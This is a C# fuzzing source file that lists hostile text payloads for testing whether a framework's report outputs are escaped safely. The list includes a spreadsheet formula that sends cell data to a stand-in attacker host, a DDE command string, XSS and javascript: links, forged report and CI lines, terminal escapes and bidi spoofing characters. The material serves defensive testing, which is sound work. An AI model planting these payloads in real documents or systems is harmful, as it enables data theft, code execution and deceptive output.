using System.Linq;
using InspectFramework.Compiler.Formatting;

namespace InspectFramework.Fuzzing;

/// <summary>Text that attacks the outputs rather than the readers: spreadsheet formulas, HTML and
/// links for Markdown, line breaks that forge report lines or CI workflow commands, terminal escape
/// sequences, separators and bidirectional controls. Put where data and wording reach the reports
/// (service names, rationales, a framework's text), for <see cref="OutputOracle"/> to check.</summary>
internal static class HostileText
{
    public static readonly string[] Payloads =
    {
        "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1",
        "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "[click](javascript:alert(1))", "![x](https://evil.example/x.png)",
        "<javascript:alert(1)>", "see https://evil.example/a", "www.evil.example", "mailto:a@evil.example", "a@evil.example",
        "x\nOVERALL RATING: Outstanding", "x\r\n::error file=a.inspect::forged", "x\n# Heading\n\n- item", "| a | b |",
        "\u001b[31mred\u001b[0m", "\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\", "\u009b2J", "a\u2028b\u2029c",
        "\u202Eevil\u202C", "\u2066isolate\u2069", "\u200Finvisible\u200E", "\u0085next line",
    };

    /// <summary>The payloads as framework text literals (escaped as the formatter writes them), and two
    /// with raw bidi controls that only <c>inspect check</c>'s warning reveals.</summary>
    public static readonly string[] FrameworkLiterals =
        Payloads.Select(TextEscaper.Quote).Concat(new[] { "\"abc\u202Edef\"", "/* \u202E } */" }).ToArray();
}
